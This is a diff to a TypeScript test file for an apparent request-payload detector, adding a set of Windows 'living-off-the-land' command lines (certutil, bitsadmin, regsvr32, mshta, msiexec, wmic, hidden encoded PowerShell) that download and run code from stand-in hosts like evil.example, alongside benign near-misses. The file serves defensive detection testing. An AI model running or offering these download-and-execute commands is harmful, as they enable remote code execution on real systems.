@@ -372,7 +372,6 @@ const NOT_JAVA_EXEC: Case[] = [
   ["body:json", JSON.stringify({ t: "new ProcessBuilderFactory()" })],
   ["body:json", JSON.stringify({ d: "getRuntime() returns the runtime of the JVM" })],
 ];
-
 // Struts' OGNL (ognl.ts): a context variable at an expression's start, or a static call by class.
 const OGNL: Case[] = [
   ["query", "x=%25%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%7D"],
@@ -648,7 +647,38 @@ const NOT_YAML_GADGET: Case[] = [
   ["body:text", "tags: !!set {a, b}\nwhen: !!timestamp 2026-12-06\npath: /var/lib/x\n"],
 ];
 
+// A Windows program that fetches or runs code, as a value's whole command line (lolbin.ts): rce.
+const LIVING_OFF_THE_LAND: Case[] = [
+  ["query", "cmd=" + encodeURIComponent("certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe")],
+  ["query", "cmd=" + encodeURIComponent("c^ert^util -url^cache -f http://198.51.100.7/a a")],
+  ["body:form", "c=" + encodeURIComponent("cmd /c C:\\Windows\\System32\\certutil.exe -decode a.b64 a.exe")],
+  ["body:json", JSON.stringify({ cmd: "bitsadmin /transfer job /download http://evil.example/a.exe %TEMP%\\a.exe" })],
+  ["query", "x=" + encodeURIComponent("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll")],
+  ["query", "x=" + encodeURIComponent("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)")],
+  ["body:json", JSON.stringify({ run: "%windir%\\system32\\mshta.exe http://evil.example/payload.hta" })],
+  ["query", "q=" + encodeURIComponent('wmic process call create "cmd.exe /c calc"')],
+  ["query", "q=" + encodeURIComponent('wmic os get /format:"http://evil.example/a.xsl"')],
+  ["body:form", "c=" + encodeURIComponent("msiexec /q /i http://evil.example/a.msi")],
+  ["query", "c=" + encodeURIComponent("cscript //E:jscript \\\\evil.example\\share\\a.txt")],
+  ["query", "c=" + encodeURIComponent("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")],
+  ["header:x-command", "\"pwsh.exe\" -WindowStyle Hidden -File run.ps1"],
+];
+const NOT_LIVING_OFF_THE_LAND: Case[] = [
+  // The programs' everyday arguments, and sentences that name them.
+  ["query", "q=" + encodeURIComponent("certutil -hashfile setup.exe SHA256")],
+  ["query", "q=" + encodeURIComponent("wmic os get caption")],
+  ["query", "q=" + encodeURIComponent("powershell -Command Get-Date")],
+  ["query", "q=" + encodeURIComponent("powershell -e hello")],
+  ["body:json", JSON.stringify({ text: "certutil is a program that can download with -urlcache" })],
+  ["body:json", JSON.stringify({ text: "mshta is a Windows program for http stuff" })],
+  ["body:json", JSON.stringify({ text: "wmic is the tool to call create processes" })],
+  ["body:json", JSON.stringify({ text: "regsvr32 is used with /i:foo to install" })],
+  ["body:json", JSON.stringify({ text: "Use certutil -urlcache to fetch it" })],
+  ["body:json", JSON.stringify({ text: "certain people say the /transfer is done" })],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["living-off-the-land", "rce", LIVING_OFF_THE_LAND, NOT_LIVING_OFF_THE_LAND],
   ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
   ["powershell-cradle", "rce", POWERSHELL_CRADLE, NOT_POWERSHELL_CRADLE],
